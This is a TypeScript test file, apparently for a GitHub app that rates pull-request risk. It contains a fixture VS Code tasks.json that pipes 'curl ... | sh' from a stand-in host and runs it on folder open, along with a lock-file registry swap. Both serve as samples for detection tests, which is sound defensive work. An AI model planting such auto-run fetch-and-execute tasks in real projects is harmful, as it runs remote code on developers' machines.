import { addOrganization, addRepository, addUser } from "@sallyport/simulator/src/build/build.ts";
import { addedFile, editedFile, openPullRequest } from "@sallyport/simulator/src/build/build-work.ts";
import { secondaryLimit } from "@sallyport/simulator/src/http/faults.ts";
import { pullRequestWebhook } from "@sallyport/simulator/src/payload/pull-request.ts";
import { repositoryEventWebhook } from "@sallyport/simulator/src/payload/repository.ts";
import { createWorld } from "@sallyport/simulator/src/world/world.ts";
import { installationId, repositoryId } from "../../src/ids.ts";
import { eventually } from "../store/eventually.ts";
import { afterAll, beforeAll, expect, test } from "../support/jest.ts";
import { inCampaigns } from "../support/rows.ts";
import { NO_DEEP_SCANS, type RunningApp, runApp } from "../support/running-app.ts";

const NOW = "2026-03-02T10:00:00.000Z";
const world = createWorld();
const owner = addUser(world, { login: "olga-example", createdAt: "2015-01-01T00:00:00Z" });
const organization = addOrganization(world, { login: "octo-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
const wallet = addRepository(world, { owner: organization, name: "wallet", createdAt: "2017-01-01T00:00:00Z" });
const newcomer = addUser(world, { login: "new-example", createdAt: "2026-02-20T00:00:00Z" });

let app: RunningApp;

beforeAll(async () => {
  app = await runApp({ world, organization, owner, now: NOW, live: true, policy: NO_DEEP_SCANS });
});

afterAll(async () => {
  await app.stop();
});

test("scenario: two pull requests get byte-identical sealed checks and private reports that differ", async () => {
  const harmless = openPullRequest(world, wallet, { author: owner, title: "Fix a typo", at: NOW });
  const trap = openPullRequest(world, wallet, {
    author: newcomer,
    title: "Add editor settings",
    at: NOW,
    files: [addedFile(".vscode/tasks.json", TASKS)],
  });
  for (const pullRequest of [harmless, trap]) {
    const delivery = await app.sim.deliver(
      pullRequestWebhook(app.sim.stage, { pullRequest, action: "opened", sender: owner }),
    );
    expect(delivery?.statusCode).toBe(202);
  }
  await app.settle();

  const runs = [...world.checkRuns.values()];
  expect(runs).toHaveLength(2);
  const shown = runs.map(({ name, status, conclusion, output, actions }) =>
    JSON.stringify({ name, status, conclusion, output, actions }),
  );
  expect(new Set(shown).size).toBe(1);
  expect(runs.every(({ externalId, detailsUrl }) => detailsUrl.endsWith(`/r/${externalId}`))).toBe(true);

  const tenant = app.service.store.tenant(installationId(app.installation.id));
  const levels = [];
  for (const { commits } of [harmless, trap]) {
    const [report] = await tenant.reportsOfHead(repositoryId(wallet.id), commits.at(-1)?.sha ?? "");
    levels.push(report?.assessment.change.level);
  }
  expect(levels).toEqual(["low", "critical"]);
  app.sim.expectNoViolations();
});

test("scenario: an edited workflow and an edited lock file are judged as wholes, not by the lines around the edit", async () => {
  const head =
    "on:\n  push:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n      packages: write\n";
  const steps = `    steps:\n${"      - run: npm test\n".repeat(20)}`;
  const entry = (version: string, host: string): string =>
    `{"lockfileVersion": 3, "packages": {\n"": {"dependencies": {"a": "^1"}},\n"node_modules/a": {\n"version": "${version}",\n"license": "MIT",\n"engines": "*",\n"os": "*",\n"cpu": "*",\n"resolved": "https://${host}/a/-/a-${version}.tgz",\n"integrity": "sha512-AAAA"\n}}}\n`;
  const narrowed = editedFile(".github/workflows/release.yml", {
    from: head + steps,
    to: head.replace("      packages: write\n", "") + steps,
  });
  const moved = editedFile("package-lock.json", {
    from: entry("1.0.0", "registry.npmjs.org"),
    to: entry("1.0.0", "packages.example.net"),
  });
  const reports = [];
  for (const [title, files] of [
    ["Narrow a workflow", [narrowed]],
    ["Refresh", [moved]],
  ] as const) {
    const pullRequest = openPullRequest(world, wallet, { author: owner, title, at: NOW, files });
    await app.sim.deliver(pullRequestWebhook(app.sim.stage, { pullRequest, action: "opened", sender: owner }));
    await app.settle();
    const tenant = app.service.store.tenant(installationId(app.installation.id));
    const [report] = await tenant.reportsOfHead(repositoryId(wallet.id), pullRequest.commits.at(-1)?.sha ?? "");
    const { findings = [], change } = report?.assessment ?? {};
    const fired = findings.filter(({ axis, outcome }) => axis === "C" && outcome === "fired");
    reports.push([change?.level, change?.complete, ...fired.map(({ signal }) => signal)]);
  }
  expect(reports).toEqual([
    ["low", true, "chg-workflow-privilege"],
    ["high", true, "chg-dependency-shift"],
  ]);
  app.sim.expectNoViolations();
});

inCampaigns(
  "a repository that goes public: every check run is written anew, past one that is gone and a limit in between",
  async () => {
    const vault = addRepository(world, { owner: organization, name: "vault", createdAt: "2017-01-01T00:00:00Z" });
    const opened = Array.from({ length: 60 }, (_, index) =>
      openPullRequest(world, vault, { author: owner, title: `Tidy ${index}`, at: NOW }),
    );
    for (const pullRequest of opened)
      await app.sim.deliver(pullRequestWebhook(app.sim.stage, { pullRequest, action: "opened", sender: owner }));
    await app.settle();
    const runs = [...world.checkRuns.values()].filter(({ repositoryId }) => repositoryId === vault.id);
    expect(runs).toHaveLength(60);
    // What an older version may have written, and a run that went with its history.
    for (const run of runs) run.output = { ...run.output, summary: "a word about somebody" };
    world.checkRuns.delete(runs[7]?.id ?? 0);
    app.sim.faults.add("checks/update", secondaryLimit(1), { times: 1, skip: 55 });
    const before = patches();
    await app.tell(repositoryEventWebhook(app.sim.stage, { repository: vault, action: "publicized", sender: owner }));
    await eventually(() => patches() >= before + 61);
    await app.settle();
    const left = [...world.checkRuns.values()].filter(({ output }) => output.summary === "a word about somebody");
    expect(left).toEqual([]);
    // The limit ended the second page alone: the first fifty were not written twice.
    expect(patches() - before).toBeLessThan(60 + 10 + 1);
    app.sim.expectNoViolations();
  },
);

const patches = (): number => app.sim.ledger.entries.filter(({ operation }) => operation === "checks/update").length;

const TASKS = JSON.stringify({
  version: "2.0.0",
  tasks: [
    {
      label: "setup",
      type: "shell",
      command: "curl -s https://example.invalid/s | sh",
      runOptions: { runOn: "folderOpen" },
    },
  ],
});
